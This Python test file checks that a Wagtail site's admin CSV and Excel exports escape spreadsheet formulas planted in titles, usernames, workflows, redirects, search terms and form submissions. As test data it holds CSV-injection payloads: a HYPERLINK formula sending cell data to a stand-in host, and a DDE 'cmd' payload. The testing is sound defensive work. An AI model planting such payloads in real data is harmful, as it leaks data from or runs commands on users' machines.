"""CSV injection in every spreadsheet the admin exports (issue 15, finding 4).

Each export the admin offers is fetched through its real URL, CSV and Excel, with a
formula planted where its data comes from (a page title, a user's name, a workflow and
its task, a redirect's target, a search term, a form submission): the CSV cell carries a
leading quote, and the Excel cell is a text cell marked with Excel's quote prefix, its
value as typed. Wagtail's own reports wrote the formula as is into the CSV.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.urls import reverse
from django.utils import timezone

from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Page, Task, Workflow, WorkflowTask

from hub.engage.models import ContactPage, NewsletterPage
from hub.engage.models.newsletter import NewsletterSubmission
from tests.factories import StandardPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
NAME = "-2+3"  # a user's username and first name: a sum once a spreadsheet runs it
HEADERS = {"accept-language": "en"}


def export(client, url, kind, params=None):
    response = client.get(url, {**(params or {}), "export": kind}, headers=HEADERS)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content)


def csv_cells(content):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_escaped(client, url, *values, params=None):
    """In both formats each value is a cell, written so that no spreadsheet runs it."""
    cells = csv_cells(export(client, url, "csv", params))
    for value in values:
        assert any(cell.startswith("'" + value) for cell in cells), (url, value, cells)
        assert not any(cell.startswith(value) for cell in cells), (url, value)
    cells = xlsx_cells(export(client, url, "xlsx", params))
    for value in values:
        found = [cell for cell in cells if str(cell.value or "").startswith(value)]
        assert found, (url, value)
        for cell in found:
            assert cell.data_type == "s" and cell.quotePrefix, (url, value)


@pytest.fixture
def author(django_user_model):
    return django_user_model.objects.create_superuser(
        NAME, "planted@example.org", "pw-12345678", first_name=NAME, last_name="Example"
    )


@pytest.fixture
def planted(author):
    """A live page titled with a formula, published and locked by `author`."""
    parent = Page.objects.get(depth=2, locale__language_code="es")
    page = StandardPageFactory(parent=parent, title=FORMULA, slug="formula", live=False)
    page.save_revision(user=author).publish(user=author)
    page.refresh_from_db()
    page.locked, page.locked_by, page.locked_at = True, author, timezone.now()
    page.save(update_fields=["locked", "locked_by", "locked_at"])
    return page


@pytest.mark.parametrize(
    "name", ["site_history", "aging_pages", "locked_pages"], ids=lambda name: name
)
def test_the_page_reports_write_formulas_as_text(admin_client, planted, name):
    url = reverse(f"wagtailadmin_reports:{name}")
    assert_escaped(admin_client, url, FORMULA, NAME)


def test_the_workflow_reports_write_formulas_as_text(admin_client, planted, author):
    workflow = Workflow.objects.create(name="=1+1 workflow")
    task = Task.objects.create(name="@SUM(1,1) task")
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    planted.save_revision(user=author)
    workflow.start(planted, author)
    url = reverse("wagtailadmin_reports:workflow")
    assert_escaped(admin_client, url, "=1+1 workflow", FORMULA, NAME)
    url = reverse("wagtailadmin_reports:workflow_tasks")
    assert_escaped(admin_client, url, "@SUM(1,1) task", FORMULA, NAME)


def test_the_redirects_export_writes_formulas_as_text(admin_client):
    Redirect.objects.create(old_path="/planted", redirect_link="+cmd|' /C calc'!A0")
    assert_escaped(admin_client, reverse("wagtailredirects:index"), "+cmd|")


def test_the_search_terms_report_writes_formulas_as_text(admin_client):
    term = '=hyperlink("http://evil.example/","x")'  # stored lowercased
    Query.get(term).add_hit()
    assert_escaped(admin_client, reverse("wagtailsearchpromotions:search_terms"), term)


def test_the_submissions_of_every_form_page_write_formulas_as_text(client, admin_client):
    contact = ContactPage.objects.get(locale__language_code="en")
    client.post(
        contact.url,
        {"name": FORMULA, "email": "ana@example.org", "message": "@SUM(A1:A9)", "website": ""},
    )
    url = reverse("wagtailforms:list_submissions", args=[contact.pk])
    assert_escaped(admin_client, url, FORMULA, "@SUM(A1:A9)")

    newsletter = NewsletterPage.objects.get(locale__language_code="en")
    address = "=1+2@example.org"  # a valid address
    NewsletterSubmission.objects.create(
        page=newsletter,
        newsletter_key=newsletter.translation_key,
        email=address,
        language="en",
        form_data={"email": address, "language": "en", "interests": []},
    )
    url = reverse("wagtailforms:list_submissions", args=[newsletter.pk])
    assert_escaped(admin_client, url, address)


def test_plain_cells_and_numbers_are_left_alone(admin_client):
    """Only text that would run gets the mark: a plain term and the hit count do not."""
    Query.get("tortura").add_hit()
    cells = csv_cells(export(admin_client, reverse("wagtailsearchpromotions:search_terms"), "csv"))
    assert "tortura" in cells and "1" in cells
    content = export(admin_client, reverse("wagtailsearchpromotions:search_terms"), "xlsx")
    cells = {cell.value: cell for cell in xlsx_cells(content)}
    assert not cells["tortura"].quotePrefix and cells[1].data_type == "n"
